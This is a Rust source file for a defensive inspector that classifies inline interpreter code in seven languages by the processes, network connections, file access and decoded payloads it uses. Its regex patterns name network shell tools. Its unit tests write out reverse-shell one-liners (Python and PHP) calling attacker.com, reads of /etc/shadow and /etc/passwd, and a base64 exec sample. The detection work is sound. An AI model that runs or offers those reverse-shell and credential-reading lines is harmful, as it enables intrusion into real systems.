//! Inspection of inline interpreter code (`python -c`, `node -e`, `perl -e`, `ruby -e`,
//! `php -r`, awk programs, `jrunscript -e`, `m4`).
//!
//! This is not a parser for six languages: it looks for the calls that matter —
//! processes, network, file access, dynamic code — and pulls out their literal
//! arguments. A command string passed to `os.system("…")` is analysed as shell; a
//! process started with a computed command is opaque (asked about); code decoded at run
//! time and executed is obfuscated. Code with none of these calls is inert: it computes
//! and prints.

mod computed;
mod parsing_only;

use std::sync::OnceLock;

use regex::Regex;

/// What a code string does.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Finding {
    /// Runs this shell command line.
    Shell(String),
    /// Runs a command computed at run time.
    OpaqueProcess(String),
    /// Reads this file.
    Read(String),
    /// Writes this file.
    Write(String),
    /// Deletes this file.
    Delete(String),
    /// Connects to the network: the URLs or hosts found (empty if computed), and whether
    /// data is sent.
    Network {
        /// URLs or `host:port` literals found in the code.
        targets: Vec<String>,
        /// Whether the code sends data (posts, writes to a socket, uploads).
        sends: bool,
    },
    /// Listens on a port.
    Listen,
    /// Executes code that is decoded or built at run time.
    Obfuscated(String),
    /// Loads native code.
    LoadsLibrary(String),
    /// Reads a file whose name is built at run time (the expression as written).
    ReadsComputedPath(String),
    /// Writes a file whose name is built at run time (the expression as written).
    WritesComputedPath(String),
    /// Imports these top-level modules (Python): a module file of that name in the
    /// directory the code runs from is imported before the standard library's.
    Imports(Vec<String>),
}

/// The language of a code string.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Lang {
    Python,
    /// JavaScript (node, deno, bun, jrunscript).
    JavaScript,
    Perl,
    Ruby,
    Php,
    Awk,
    M4,
    /// Something else: only generic indicators are used.
    Other,
}

impl Lang {
    /// The language of an interpreter program name.
    pub fn of_program(name: &str) -> Lang {
        let base = name.trim_end_matches(|c: char| c.is_ascii_digit() || c == '.');
        match base {
            "python" | "pypy" | "ipython" | "bpython" => Lang::Python,
            "node" | "nodejs" | "deno" | "bun" | "jrunscript" | "qjs" | "osascript" => {
                Lang::JavaScript
            }
            "perl" => Lang::Perl,
            "ruby" | "irb" => Lang::Ruby,
            "php" => Lang::Php,
            "awk" | "gawk" | "mawk" | "nawk" => Lang::Awk,
            "m4" => Lang::M4,
            _ => Lang::Other,
        }
    }
}

struct Patterns {
    /// Calls that run a shell command given as the first string literal.
    shell_call: Regex,
    /// Calls that start processes without a literal we can read.
    process: Regex,
    network: Regex,
    sends: Regex,
    listen: Regex,
    dynamic_code: Regex,
    decode: Regex,
    open_call: Regex,
    write_call: Regex,
    read_call: Regex,
    delete_call: Regex,
    url: Regex,
    library: Regex,
    backtick: Regex,
}

#[expect(
    clippy::expect_used,
    reason = "constant patterns, all compiled by the unit tests"
)]
fn patterns() -> &'static Patterns {
    static P: OnceLock<Patterns> = OnceLock::new();
    P.get_or_init(|| {
        let r = |s: &str| Regex::new(s).expect("inspector patterns compile");
        Patterns {
            shell_call: r(r#"(?x)
                (?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)
                 |commands\.getoutput|pty\.spawn|shell_exec|passthru|proc_open|popen|execSync|spawnSync|execFileSync|exec
                 |system|syscmd|esyscmd|Runtime\.getRuntime\(\)\.exec|%x)
                \s*\(\s*(?:\[\s*)?(?:f|r|b)?
                (?:"((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)')"#),
            process: r(r"(?x)(?:\b(?:os\.system|os\.popen|os\.exec[lv]p?e?|os\.spawn\w*|subprocess\.\w+|pty\.spawn|commands\.getoutput
                |shell_exec|passthru|proc_open|popen|pcntl_exec|execSync|spawnSync|execFileSync|execFile|system|syscmd|esyscmd
                |IO\.popen|Kernel\.exec|Runtime\.getRuntime\(\)\.exec|Popen)\s*\(|\bProcessBuilder\b|child_process['\x22]\s*\)\s*\.\s*(?:exec|spawn)\w*\s*\()"),
            network: r(r"(?xi)\b(?:from\s+requests\s+import|import\s+(?:requests|urllib3)\b|socket|urllib\.request|urllib[23]|urllib\s+import\s+[^;\n]*\brequest\b|urlopen|urlretrieve|http\.client|httplib|requests\.|httpx|aiohttp|ftplib|smtplib|telnetlib
                |paramiko|xmlrpc|websocket|fsockopen|stream_socket_client|curl_init|file_get_contents\s*\(\s*['\x22]https?:
                |net\.connect|net\.Socket|require\(\s*['\x22](?:https?|net|dgram|tls)['\x22]\s*\)|fetch\s*\(|XMLHttpRequest
                |IO::Socket|LWP|HTTP::Tiny|Net::HTTP|TCPSocket|UDPSocket|open-uri|/inet/tcp|/inet/udp|/dev/tcp/|/dev/udp/
                |java\.net|URL\s*\(|cp\s*\(\s*['\x22]https?:|\bdownload\s*\(\s*['\x22]https?:|Downloads\.download)"),
            sends: r(r"(?xi)\b(?:sendall|send\s*\(|sendto|\.post\s*\(|\.put\s*\(|method\s*=\s*['\x22]post|data\s*=|upload
                |write\s*\(|print\s*[^;]*\|&|printf\s*[^;]*\|&|fwrite|\.request\s*\()"),
            listen: r(r"(?xi)\b(?:\.bind\s*\(|\.listen\s*\(|createServer|http\.server|SimpleHTTPServer|socketserver|TCPServer
                |stream_socket_server|/inet/tcp/\d+/0/0)"),
            dynamic_code: r(r"(?x)\b(?:eval|exec|compile|__import__|Function|create_function|instance_eval|class_eval|assert)\s*\("),
            decode: r(r"(?xi)(?:b64decode|base64|decodebytes|fromhex|unhexlify|atob\s*\(|Buffer\.from\s*\([^)]*['\x22](?:base64|hex)
                |base64_decode|hex2bin|str_rot13|gzinflate|gzuncompress|zlib\.decompress|codecs\.decode|unpack\s*\(\s*['\x22][mH])"),
            open_call: r(r#"(?x)\b(?:open|fopen|io\.open|File\.open|codecs\.open)\s*\(\s*(?:f|r)?(?:"([^"\\]*)"|'([^'\\]*)')\s*(?:,\s*(?:mode\s*=\s*)?(?:"([^"]*)"|'([^']*)'))?"#),
            write_call: r(r#"(?x)\b(?:file_put_contents|writeFileSync|appendFileSync|writeFile|File\.write|write_text|write_bytes|shutil\.copy\w*|shutil\.move|os\.rename|os\.replace|copyFileSync)\s*\(\s*(?:[^,()]*,\s*)?(?:"([^"\\]*)"|'([^'\\]*)')"#),
            read_call: r(r#"(?x)\b(?:file_get_contents|readFileSync|readFile|File\.read|IO\.read|read_text|read_bytes|file|readfile|Path)\s*\(\s*(?:"([^"\\]*)"|'([^'\\]*)')"#),
            delete_call: r(r#"(?x)\b(?:os\.remove|os\.unlink|os\.rmdir|shutil\.rmtree|unlinkSync|rmSync|rmdirSync|unlink|File\.delete|FileUtils\.rm_r?f?|rmtree)\s*\(\s*(?:"([^"\\]*)"|'([^'\\]*)')"#),
            url: r(r#"(?i)\b(?:https?|ftp|wss?)://[A-Za-z0-9._~:%@!$&*+,;=/?#\[\]-]+"#),
            library: r(r"(?xi)\b(?:ctypes|cdll|LoadLibrary|dlopen|ffi\.|DynaLoader|Fiddle|System\.load|java\.lang\.System\.loadLibrary)"),
            backtick: r(r"`([^`]+)`"),
        }
    })
}

fn first_group(c: &regex::Captures<'_>) -> Option<String> {
    (1..c.len())
        .find_map(|i| c.get(i))
        .map(|m| m.as_str().to_owned())
}

/// Unescapes the common backslash escapes of a string literal.
fn unescape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut it = s.chars();
    while let Some(c) = it.next() {
        if c == '\\' {
            match it.next() {
                Some('n') => out.push('\n'),
                Some('t') => out.push('\t'),
                Some(other) => out.push(other),
                None => out.push('\\'),
            }
        } else {
            out.push(c);
        }
    }
    out
}

/// Inspects a code string.
pub fn inspect(lang: Lang, code: &str) -> Vec<Finding> {
    let mut out = Vec::new();
    let code = if code.len() > 64 * 1024 {
        &code[..code.floor_char_boundary(64 * 1024)]
    } else {
        code
    };
    processes(lang, code, &mut out);
    dynamic_code(lang, code, &mut out);
    network(lang, code, &mut out);
    file_calls(code, &mut out);
    for arg in computed::path_arguments(code) {
        let f = match arg {
            computed::PathArg::Known(p, computed::Use::Read) => Finding::Read(p),
            computed::PathArg::Known(p, computed::Use::Write) => Finding::Write(p),
            computed::PathArg::Computed(e, computed::Use::Read) => Finding::ReadsComputedPath(e),
            computed::PathArg::Computed(e, computed::Use::Write) => Finding::WritesComputedPath(e),
        };
        if !out.contains(&f) {
            out.push(f);
        }
    }
    named_paths(code, &mut out);
    if lang == Lang::Perl {
        perl_open(code, &mut out);
    }
    if lang == Lang::Python {
        let modules = python_imports(code);
        if !modules.is_empty() {
            out.push(Finding::Imports(modules));
        }
    }
    if lang == Lang::Awk {
        awk_files_and_pipes(code, &mut out);
    }
    relative_after_chdir(code, &mut out);
    out
}

/// Code that changes its directory (`os.chdir(…)`, `process.chdir(…)`, `Dir.chdir`,
/// `chdir …`) makes every relative path it names relative to somewhere unknown: those
/// are computed paths, not paths in the directory the command runs in.
fn relative_after_chdir(code: &str, out: &mut [Finding]) {
    static CHDIR: OnceLock<Regex> = OnceLock::new();
    #[expect(clippy::unwrap_used, reason = "a constant pattern")]
    let chdir = CHDIR.get_or_init(|| Regex::new(r"\bchdir\b|\bDir\.chdir|\bos\.fchdir\b").unwrap());
    if !chdir.is_match(code) {
        return;
    }
    let moved = |p: &str| format!("{p} (after the code changes directory)");
    for f in out.iter_mut() {
        let relative = |p: &str| !p.starts_with('/') && !p.starts_with('~');
        *f = match std::mem::replace(f, Finding::Listen) {
            Finding::Read(p) if relative(&p) => Finding::ReadsComputedPath(moved(&p)),
            Finding::Write(p) | Finding::Delete(p) if relative(&p) => {
                Finding::WritesComputedPath(moved(&p))
            }
            other => other,
        };
    }
}

/// The top-level modules a Python code string imports (`import a.b, c as d`, `from e.f
/// import g`; relative imports are left out), in order, once each.
fn python_imports(code: &str) -> Vec<String> {
    static IMPORT: OnceLock<Regex> = OnceLock::new();
    #[expect(clippy::unwrap_used, reason = "a constant pattern")]
    let re = IMPORT.get_or_init(|| {
        Regex::new(r"(?m)(?:^|[;:])[ \t]*(?:from[ \t]+([A-Za-z_]\w*)[\w.]*[ \t]+import\b|import[ \t]+([\w., \t]+))")
            .unwrap()
    });
    let mut out: Vec<String> = Vec::new();
    for c in re.captures_iter(code) {
        let names: Vec<&str> = match (c.get(1), c.get(2)) {
            (Some(m), _) => vec![m.as_str()],
            (None, Some(list)) => list
                .as_str()
                .split(',')
                .filter_map(|n| n.split_whitespace().next())
                .map(|n| n.split('.').next().unwrap_or(n))
                .collect(),
            _ => Vec::new(),
        };
        for n in names {
            let valid = n
                .chars()
                .next()
                .is_some_and(|c| c.is_alphabetic() || c == '_')
                && n.chars().all(|c| c.is_alphanumeric() || c == '_');
            if valid && !out.iter().any(|o| o == n) {
                out.push(n.to_owned());
            }
        }
    }
    out
}

/// Processes: literal commands are analysed as shell; anything else is opaque.
fn processes(lang: Lang, code: &str, out: &mut Vec<Finding>) {
    let p = patterns();
    let mut literal_cmds = 0;
    for c in p.shell_call.captures_iter(code) {
        let whole = c.get(0).map(|m| m.as_str()).unwrap_or("");
        // Python's exec() runs Python, not a command (dynamic code is handled below).
        if lang == Lang::Python && whole.trim_start().starts_with("exec") {
            continue;
        }
        // A literal that is only part of the argument (`'cat .e' + 'nv'`): the command
        // is built at run time, which the count of process calls below reports.
        let end = c.get(0).map_or(0, |m| m.end());
        if !matches!(
            code[end..].trim_start().chars().next(),
            Some(',' | ')' | ']') | None
        ) {
            continue;
        }
        if let Some(cmd) = first_group(&c) {
            let cmd = unescape(&cmd);
            // subprocess.run(["ls", "-a"]) lists argv: join the literal words.
            let whole = c.get(0).map(|m| m.as_str()).unwrap_or("");
            let line = if whole.contains('[') {
                let tail = &code[c.get(0).map_or(0, |m| m.start())..];
                let end = tail.find(']').unwrap_or(tail.len());
                tail[..end]
                    .split(['"', '\''])
                    .skip(1)
                    .step_by(2)
                    .map(|w| shell_quote(&unescape(w)))
                    .collect::<Vec<_>>()
                    .join(" ")
            } else {
                cmd
            };
            out.push(Finding::Shell(line));
            literal_cmds += 1;
        }
    }
    if matches!(lang, Lang::Perl | Lang::Ruby | Lang::Php) {
        for c in p.backtick.captures_iter(code) {
            if let Some(cmd) = c.get(1) {
                out.push(Finding::Shell(cmd.as_str().to_owned()));
                literal_cmds += 1;
            }
        }
    }
    let process_calls = p.process.find_iter(code).count();
    if process_calls > literal_cmds {
        out.push(Finding::OpaqueProcess(format!(
            "{lang:?} code starts a process with a command built at run time"
        )));
    }
}

/// Dynamic code: decoded payloads are obfuscation; other eval/exec is opaque. Also
/// other risky calls, and native code loaded.
#[expect(
    clippy::expect_used,
    reason = "a constant pattern, compiled by the unit tests"
)]
fn dynamic_code(lang: Lang, code: &str, out: &mut Vec<Finding>) {
    let p = patterns();
    let dynamic = p.dynamic_code.is_match(code) && lang != Lang::Awk;
    if dynamic && p.decode.is_match(code) {
        out.push(Finding::Obfuscated(format!(
            "{lang:?} code decodes a payload and executes it"
        )));
    } else if dynamic && lang == Lang::Python && code.contains("__import__") {
        out.push(Finding::OpaqueProcess(
            "python code imports modules by computed name".into(),
        ));
    }
    static RISKY: OnceLock<Regex> = OnceLock::new();
    let risky = RISKY.get_or_init(|| {
        Regex::new(r"(?x)\b(?:os\.kill|os\.killpg|signal\.SIG|psutil|\.kill\s*\(|process\.kill|Process\.kill|posix_kill
            |pickle\.loads?|cPickle|marshal\.loads|yaml\.load\s*\((?:[^)]*Loader\s*=\s*yaml\.(?:Unsafe)?Loader)?|shelve\.open|jsonpickle
            |unserialize\s*\(|Marshal\.load|YAML\.load\b|setuid|setgid|chroot\s*\(
            |dup2\s*\(\s*[\w.]+\.fileno|pyperclip|pynput|pyautogui|ImageGrab|keyboard\.(?:on_press|hook|record)|watchdog\.observers
            |getpass\.getpass|ctypes\.windll)").expect("compiles")
    });
    if let Some(m) = risky.find(code) {
        out.push(Finding::OpaqueProcess(format!("{lang:?} code uses {} (signals other processes, changes identity or runs deserialised code)", m.as_str().trim_end_matches('('))));
    }
    if p.library.is_match(code) {
        out.push(Finding::LoadsLibrary(format!(
            "{lang:?} code loads native code"
        )));
    }
}

/// Network use: the URLs and `host, port` literals named, whether data is sent; and
/// listening sockets.
fn network(lang: Lang, code: &str, out: &mut Vec<Finding>) {
    let p = patterns();
    let parses_only = || {
        lang == Lang::Python
            && parsing_only::only_parses(
                code,
                p.network.find_iter(code).map(|m| (m.start(), m.end())),
            )
    };
    if (p.network.is_match(code) && !parses_only())
        || (lang == Lang::Awk && code.contains("/inet/"))
    {
        let mut targets: Vec<String> = p
            .url
            .find_iter(code)
            .map(|m| m.as_str().to_owned())
            .collect();
        for host in host_literals(code) {
            targets.push(host);
        }
        targets.dedup();
        let sends = p.sends.is_match(code)
            || out
                .iter()
                .any(|f| matches!(f, Finding::Shell(_) | Finding::OpaqueProcess(_)));
        out.push(Finding::Network { targets, sends });
    }
    if p.listen.is_match(code) {
        out.push(Finding::Listen);
    }
}

/// Files named in literal arguments of file calls (`open("f", "w")`, `readFileSync`).
fn file_calls(code: &str, out: &mut Vec<Finding>) {
    let p = patterns();
    for c in p.open_call.captures_iter(code) {
        let path = c.get(1).or(c.get(2)).map(|m| m.as_str().to_owned());
        let mode = c.get(3).or(c.get(4)).map(|m| m.as_str()).unwrap_or("r");
        if let Some(path) = path.filter(|p| !p.is_empty()) {
            if mode.contains(['w', 'a', 'x', '+', '>']) {
                out.push(Finding::Write(path));
            } else {
                out.push(Finding::Read(path));
            }
        }
    }
    for c in p.write_call.captures_iter(code) {
        if let Some(path) = first_group(&c).filter(|p| !p.is_empty()) {
            out.push(Finding::Write(path));
        }
    }
    for c in p.read_call.captures_iter(code) {
        if let Some(path) = first_group(&c)
            .filter(|p| p.starts_with('/') || p.starts_with('~') || p.starts_with('.'))
        {
            out.push(Finding::Read(path));
        }
    }
    for c in p.delete_call.captures_iter(code) {
        if let Some(path) = first_group(&c).filter(|p| !p.is_empty()) {
            out.push(Finding::Delete(path));
        }
    }
}

/// Paths named anywhere in code that touches files: the code may read them (and, for
/// copies and moves, write the last one).
#[expect(
    clippy::expect_used,
    reason = "constant patterns, compiled by the unit tests"
)]
fn named_paths(code: &str, out: &mut Vec<Finding>) {
    static FILE_API: OnceLock<Regex> = OnceLock::new();
    let file_api = FILE_API.get_or_init(|| {
        Regex::new(r"(?x)\b(?:open|fopen|shutil|os\.(?:listdir|scandir|walk|stat|path|remove|unlink|rename|replace|chmod|chown|makedirs|mkdir)
            |pathlib|Path\s*\(|glob|readFile|writeFile|readdir|File\.|Dir\.|IO\.|file_get_contents|file_put_contents|scandir|opendir
            |fs\.|copyfile|copy2?|move)").expect("compiles")
    });
    if file_api.is_match(code) {
        static PATH_LIT: OnceLock<Regex> = OnceLock::new();
        let lit = PATH_LIT.get_or_init(|| {
            Regex::new(r#"["']((?:/|~/)[^"'\s<>|;&]{0,240})["']"#).expect("compiles")
        });
        let paths: Vec<String> = lit
            .captures_iter(code)
            .filter_map(|c| c.get(1).map(|m| m.as_str().to_owned()))
            .map(|p| p.trim_end_matches("/**").trim_end_matches("/*").to_owned())
            .filter(|p| !p.starts_with("/dev/") && !p.is_empty())
            .collect();
        static WRITE_MODE: OnceLock<Regex> = OnceLock::new();
        let writes_var = WRITE_MODE
            .get_or_init(|| {
                Regex::new(
                    r#"\bopen\s*\(\s*[A-Za-z_][\w.]*\s*,\s*(?:mode\s*=\s*)?["'][^"']*[wax+]|\.(?:write_text|write_bytes|touch|unlink|symlink_to|hardlink_to|chmod)\s*\("#,
                )
                .expect("compiles")
            })
            .is_match(code);
        let copies = Regex::new(r"\b(?:shutil\.(?:copy\w*|move)|copyfile|os\.(?:rename|replace)|copyFileSync|FileUtils\.(?:cp|mv))\s*\(")
            .map(|r| r.is_match(code))
            .unwrap_or(false);
        for (i, path) in paths.iter().enumerate() {
            let f = if copies && i + 1 == paths.len() && paths.len() > 1 {
                Finding::Write(path.clone())
            } else {
                Finding::Read(path.clone())
            };
            if !out.contains(&f) {
                out.push(f);
            }
            // A file opened for writing through a variable: any named path may be it.
            if writes_var && !out.contains(&Finding::Write(path.clone())) {
                out.push(Finding::Write(path.clone()));
            }
        }
    }
}

/// Perl's `open(F, ">file")` / `open(F, "<file")`.
#[expect(
    clippy::expect_used,
    reason = "a constant pattern, compiled by the unit tests"
)]
fn perl_open(code: &str, out: &mut Vec<Finding>) {
    static PERL_OPEN: OnceLock<Regex> = OnceLock::new();
    let re = PERL_OPEN.get_or_init(|| {
        Regex::new(r#"open\s*\(?\s*\$?\w+\s*,\s*(?:"|')\s*(>>?|<|\+<)?\s*([^"'|]+)(?:"|')"#)
            .expect("compiles")
    });
    for c in re.captures_iter(code) {
        let path = c
            .get(2)
            .map(|m| m.as_str().trim().to_owned())
            .unwrap_or_default();
        match c.get(1).map(|m| m.as_str()) {
            Some(">") | Some(">>") | Some("+<") => out.push(Finding::Write(path)),
            _ => out.push(Finding::Read(path)),
        }
    }
}

/// awk: getline from a file, print to a file, pipes to commands.
#[expect(
    clippy::expect_used,
    reason = "constant patterns, compiled by the unit tests"
)]
fn awk_files_and_pipes(code: &str, out: &mut Vec<Finding>) {
    static AWK: OnceLock<(Regex, Regex)> = OnceLock::new();
    let (to_file, pipe) = AWK.get_or_init(|| {
        (
            Regex::new(r#"(?:print|printf)[^;}]*?(>>?)\s*"([^"]+)""#).expect("compiles"),
            Regex::new(r#""([^"]+)"\s*\|\s*getline|\|\s*"([^"]+)""#).expect("compiles"),
        )
    });
    for c in to_file.captures_iter(code) {
        if let Some(p) = c.get(2)
            && !p.as_str().starts_with("/inet/")
            && !p.as_str().starts_with("/dev/std")
        {
            out.push(Finding::Write(p.as_str().to_owned()));
        }
    }
    for c in pipe.captures_iter(code) {
        if let Some(cmd) = c.get(1).or(c.get(2)) {
            out.push(Finding::Shell(cmd.as_str().to_owned()));
        }
    }
}

/// `"host", port` pairs such as `connect(("10.0.0.1", 4444))` or `fsockopen("h", 1)`.
#[expect(
    clippy::expect_used,
    reason = "a constant pattern, compiled by the unit tests"
)]
fn host_literals(code: &str) -> Vec<String> {
    static RE: OnceLock<Regex> = OnceLock::new();
    let re = RE.get_or_init(|| {
        Regex::new(r#"(?:"|')([A-Za-z0-9][A-Za-z0-9.-]*\.[A-Za-z]{2,}|\d{1,3}(?:\.\d{1,3}){3}|localhost)(?:"|')\s*,\s*(\d{1,5})"#)
            .expect("compiles")
    });
    re.captures_iter(code)
        .filter_map(|c| Some(format!("{}:{}", c.get(1)?.as_str(), c.get(2)?.as_str())))
        .collect()
}

fn shell_quote(s: &str) -> String {
    if !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"/._-+=:@,".contains(&b))
    {
        return s.to_owned();
    }
    format!("'{}'", s.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn relative_paths_after_a_change_of_directory_are_computed() {
        let f = inspect(
            Lang::Python,
            "import os; os.chdir(os.pardir); open('o.txt', 'w'); open('/etc/hosts')",
        );
        assert!(
            f.iter()
                .any(|x| matches!(x, Finding::WritesComputedPath(p) if p.starts_with("o.txt"))),
            "{f:?}"
        );
        assert!(f.contains(&Finding::Read("/etc/hosts".into())), "{f:?}");
        let f = inspect(
            Lang::JavaScript,
            "process.chdir('..'); require('fs').writeFileSync('x', '1')",
        );
        assert!(!f.contains(&Finding::Write("x".into())), "{f:?}");
        // Without a chdir, the path stays where the command runs.
        let f = inspect(Lang::Python, "open('o.txt', 'w')");
        assert!(f.contains(&Finding::Write("o.txt".into())), "{f:?}");
    }

    #[test]
    fn inert_code_has_no_findings() {
        for code in [
            "import sys; print(sys.version)",
            "from decimal import Decimal; print(Decimal('0').as_tuple())",
            "import numpy as np; print(np.__version__)",
            "print('xn--p8s937b'.encode('idna').decode('ascii'))",
        ] {
            let findings = inspect(Lang::Python, code);
            assert!(
                findings.iter().all(|f| matches!(f, Finding::Imports(_))),
                "{code}: {findings:?}"
            );
        }
    }

    #[test]
    fn python_imports_name_their_top_level_modules() {
        assert_eq!(
            python_imports(
                "import os, sys as s; from a.b import c\nif x: import json.decoder\nfrom . import y"
            ),
            ["os", "sys", "a", "json"]
        );
        assert!(python_imports("print('import this')").is_empty());
    }

    #[test]
    fn literal_commands_files_and_network_are_found() {
        assert_eq!(
            inspect(Lang::Python, "import os; os.system('ls -a /etc/')"),
            vec![
                Finding::Shell("ls -a /etc/".into()),
                Finding::Imports(vec!["os".into()])
            ]
        );
        assert_eq!(
            inspect(
                Lang::Python,
                "import subprocess; subprocess.run(['cat', '/etc/passwd'])"
            ),
            vec![
                Finding::Shell("cat /etc/passwd".into()),
                Finding::Imports(vec!["subprocess".into()])
            ]
        );
        assert_eq!(
            inspect(Lang::Python, "print(open('/etc/shadow').read())"),
            vec![Finding::Read("/etc/shadow".into())]
        );
        assert_eq!(
            inspect(Lang::Python, "open('out.txt', 'w').write('x')"),
            vec![Finding::Write("out.txt".into())]
        );
        let rev = inspect(
            Lang::Python,
            "import socket,os;s=socket.socket();s.connect(('attacker.com',4444));os.dup2(s.fileno(),0)",
        );
        assert!(rev.contains(&Finding::Network { targets: vec!["attacker.com:4444".into()], sends: false }) || rev.iter().any(|f| matches!(f, Finding::Network { targets, .. } if targets == &["attacker.com:4444"])), "{rev:?}");
        assert!(
            inspect(
                Lang::Php,
                "$sock=fsockopen(\"attacker.com\",12345);exec(\"/bin/sh -i 0<&3 1>&3 2>&3\");"
            )
            .iter()
            .any(|f| matches!(f, Finding::Network { .. }))
        );
        assert!(
            inspect(
                Lang::Awk,
                "BEGIN { s = \"/inet/tcp/0/attacker.com/12345\"; }"
            )
            .iter()
            .any(|f| matches!(f, Finding::Network { .. }))
        );
        assert_eq!(
            inspect(Lang::Php, "echo shell_exec(\"/path/to/command\");"),
            vec![Finding::Shell("/path/to/command".into())]
        );
    }

    #[test]
    fn decoded_payloads_are_obfuscation() {
        let f = inspect(
            Lang::Python,
            "import base64;exec(base64.b64decode('cHJpbnQoMSk='))",
        );
        assert!(
            f.iter().any(|x| matches!(x, Finding::Obfuscated(_))),
            "{f:?}"
        );
        let f = inspect(
            Lang::Python,
            "import subprocess; cmd = input(); subprocess.run(cmd, shell=True)",
        );
        assert!(
            f.iter().any(|x| matches!(x, Finding::OpaqueProcess(_))),
            "{f:?}"
        );
    }
}
